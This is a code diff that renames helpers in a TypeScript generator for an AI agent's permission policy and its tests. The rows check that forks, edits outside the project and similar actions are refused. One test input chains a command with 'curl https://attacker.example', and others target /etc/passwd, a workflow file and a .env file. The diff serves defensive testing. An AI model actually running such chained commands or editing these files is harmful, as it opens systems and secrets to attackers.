@@ -70,14 +70,14 @@ function toRules({ trigger, commands, paths }: PolicyAnswers, ids: RuleIds): rea
       command: { shell: { only: [${commands.map(quoteYaml).join(', ')}] } }
     then: allow
     limit: 10`;
-  const pathRule = (id: string, field: string): string => `  - id: ${id}
+  const toPathRule = (id: string, field: string): string => `  - id: ${id}
     when: ${when}
     match: { kind: permission, tool: fs.write, "${field}": { path: [${paths.map(quoteYaml).join(', ')}] } }
     then: allow
     limit: 20`;
   return [
     ...(commands.length > 0 ? [shellRule] : []),
-    ...(paths.length > 0 ? [pathRule(ids.paths, '/paths'), pathRule(ids.inside, '/inside')] : []),
+    ...(paths.length > 0 ? [toPathRule(ids.paths, '/paths'), toPathRule(ids.inside, '/inside')] : []),
   ];
 }
 
@@ -103,17 +103,17 @@ function toTests(answers: PolicyAnswers): readonly string[] {
   const fork = '{ event: pull_request, fork: true, actor: { permission: write } }';
   // Another folder may hold a program that the intern wrote itself.
   const plantedRows: readonly TestRow[] = [
-    ['not in another folder', context, `${shell(firstCommand)}, inside: [some-other-folder]`, refused],
-    ['nor with variables of its own', context, `${shell(firstCommand)}, env: { PATH: some-other-folder }`, refused],
+    ['not in another folder', context, `${toRun(firstCommand)}, inside: [some-other-folder]`, refused],
+    ['nor with variables of its own', context, `${toRun(firstCommand)}, env: { PATH: some-other-folder }`, refused],
   ];
   const rows: readonly TestRow[] = [
     ...toAllowedRows(answers, defaultIds),
-    ['no other command rides along', context, shell(`${firstCommand}; curl https://attacker.example`), refused],
+    ['no other command rides along', context, toRun(`${firstCommand}; curl https://attacker.example`), refused],
     ...(commands.length === 0 ? [] : plantedRows),
     ...(paths.length === 0 ? [] : toWorkflowRows(context)),
-    ['nothing outside is edited', context, write('some-other-folder/.env'), refused],
-    ['a fork gets nothing', fork, shell(firstCommand), 'reject_once, rule: never-from-forks'],
-    ['on a laptop a person is asked', '{}', shell(firstCommand), refused],
+    ['nothing outside is edited', context, toWrite('some-other-folder/.env'), refused],
+    ['a fork gets nothing', fork, toRun(firstCommand), 'reject_once, rule: never-from-forks'],
+    ['on a laptop a person is asked', '{}', toRun(firstCommand), refused],
   ];
   return rows.map(toTest);
 }
@@ -125,32 +125,32 @@ const refused = 'reject_once, rule: default';
 function toAllowedRows(answers: PolicyAnswers, ids: RuleIds): readonly TestRow[] {
   const { commands, paths } = answers;
   const context = toContext(answers);
-  const sample = (path: string): string => path.replace('**', 'some-file');
-  const [first] = paths.map(sample);
+  const toFile = (path: string): string => path.replace('**', 'some-file');
+  const [first] = paths.map(toFile);
   const inside = `allow_once, rule: ${ids.inside}`;
   return [
-    ...commands.map((text): TestRow => [mayRun(text), context, shell(text), `allow_once, rule: ${ids.commands}`]),
-    ...paths.map((path): TestRow => [mayEdit(path), context, write(sample(path)), `allow_once, rule: ${ids.paths}`]),
-    ...(first === undefined ? [] : [['a real agent may as well', context, writeInside(first), inside] as const]),
+    ...commands.map((text): TestRow => [nameRun(text), context, toRun(text), `allow_once, rule: ${ids.commands}`]),
+    ...paths.map((path): TestRow => [nameEdit(path), context, toWrite(toFile(path)), `allow_once, rule: ${ids.paths}`]),
+    ...(first === undefined ? [] : [['a real agent may as well', context, toWriteInside(first), inside] as const]),
   ];
 }
 
-export const mayRun = (command: string): string => `it may run ${command}`;
-export const mayEdit = (path: string): string => `it may edit ${path}`;
+export const nameRun = (command: string): string => `it may run ${command}`;
+export const nameEdit = (path: string): string => `it may edit ${path}`;
 
 function toWorkflowRows(context: string): readonly TestRow[] {
   const path = '.github/workflows/ci.yml';
-  const outside = `${write('/etc/passwd')}, outside: ["/etc/passwd"]`;
+  const outside = `${toWrite('/etc/passwd')}, outside: ["/etc/passwd"]`;
   return [
-    ['a workflow stops the run', context, write(path), `stop, rule: ${guardId}`],
-    ['so does that of a real agent', context, writeInside(path), `stop, rule: ${guardId}-inside`],
+    ['a workflow stops the run', context, toWrite(path), `stop, rule: ${guardId}`],
+    ['so does that of a real agent', context, toWriteInside(path), `stop, rule: ${guardId}-inside`],
     ['and a file that is elsewhere', context, outside, `stop, rule: ${outsideGuard}`],
   ];
 }
 
-const shell = (command: string): string => `operation: ${quoteYaml(`shell command: ${command}`)}`;
-const write = (path: string): string => `operation: fs.write, paths: [${quoteYaml(path)}]`;
-const writeInside = (path: string): string => `${write(`/work/app/${path}`)}, inside: [${quoteYaml(path)}]`;
+const toRun = (command: string): string => `operation: ${quoteYaml(`shell command: ${command}`)}`;
+const toWrite = (path: string): string => `operation: fs.write, paths: [${quoteYaml(path)}]`;
+const toWriteInside = (path: string): string => `${toWrite(`/work/app/${path}`)}, inside: [${quoteYaml(path)}]`;
 
 function toTest([name, context, pause, expected]: TestRow): string {
   return `  - name: ${quoteYaml(name)}
